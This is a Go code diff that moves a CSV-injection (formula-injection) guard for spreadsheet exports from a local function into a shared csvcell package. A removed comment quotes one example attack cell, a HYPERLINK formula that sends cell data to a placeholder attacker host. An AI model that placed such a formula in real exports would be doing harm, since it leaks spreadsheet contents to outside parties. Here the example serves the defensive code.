@@ -9,11 +9,11 @@ import (
 	"fmt"
 	"io"
 	"os"
-	"strconv"
-	"strings"
 
 	"google.golang.org/protobuf/proto"
 	"google.golang.org/protobuf/reflect/protoreflect"
+
+	"github.com/seamhq/seam/platform/csvcell"
 )
 
 // exportPage is the page size of the list calls an export makes.
@@ -100,7 +100,7 @@ func export(ctx context.Context, k *kind, filter string, list func(context.Conte
 		for _, m := range p.msgs {
 			for _, rec := range rows(m) {
 				for i, cell := range rec {
-					rec[i] = spreadsheetSafe(cell)
+					rec[i] = csvcell.Safe(cell)
 				}
 				if err := cw.Write(rec); err != nil {
 					return n, err
@@ -117,35 +117,6 @@ func export(ctx context.Context, k *kind, filter string, list func(context.Conte
 		}
 		token = p.next
 	}
-}
-
-// formulaStarts are the first characters with which a spreadsheet
-// program reads a cell as a formula (OWASP, CSV injection).
-const formulaStarts = "=+-@\t\r"
-
-// spreadsheetSafe keeps a cell from running as a formula when the export
-// is opened in a spreadsheet program: a text that a CRM user typed, such
-// as an account named =HYPERLINK("https://evil.example/?"&A2), would
-// otherwise run on the machine of whoever opens the file. Such a cell is
-// written after an apostrophe, which spreadsheets read as "text" and hide;
-// import drops it again (unquoteCell). Numbers (-12.50) stay as they are.
-func spreadsheetSafe(cell string) string {
-	if cell == "" || !strings.ContainsRune(formulaStarts, rune(cell[0])) {
-		return cell
-	}
-	if _, err := strconv.ParseFloat(cell, 64); err == nil {
-		return cell
-	}
-	return "'" + cell
-}
-
-// unquoteCell undoes spreadsheetSafe: an apostrophe before a formula's
-// first character is dropped.
-func unquoteCell(cell string) string {
-	if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune(formulaStarts, rune(cell[1])) {
-		return cell[1:]
-	}
-	return cell
 }
 
 // layout returns the header of an export of k and the rows it writes for
